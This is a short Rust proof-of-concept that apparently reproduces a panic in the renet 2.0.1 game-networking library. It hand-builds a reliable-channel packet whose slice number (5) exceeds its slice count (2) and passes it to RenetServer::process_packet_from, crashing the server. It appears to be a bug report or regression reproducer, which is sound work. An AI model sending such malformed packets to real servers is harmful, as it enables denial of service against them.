//! renet 2.0.1: a packet whose slice has a number beyond the slices makes the server panic. Fails by itself.

use renet::{ConnectionConfig, DefaultChannel, RenetServer};

fn main() {
    let mut server = RenetServer::new(ConnectionConfig::default());
    server.add_connection(1);
    // A slice of a reliable message: packet 0, channel, message 0, slice 5 of 2, its length as a number of two bytes.
    let head = [2, 0, u8::from(DefaultChannel::ReliableUnordered), 0, 5, 2, 0x44, 0xb0];
    let packet = [&head[..], &[0; 1_200]].concat();
    server.process_packet_from(&packet, 1).expect("the client is known");
}
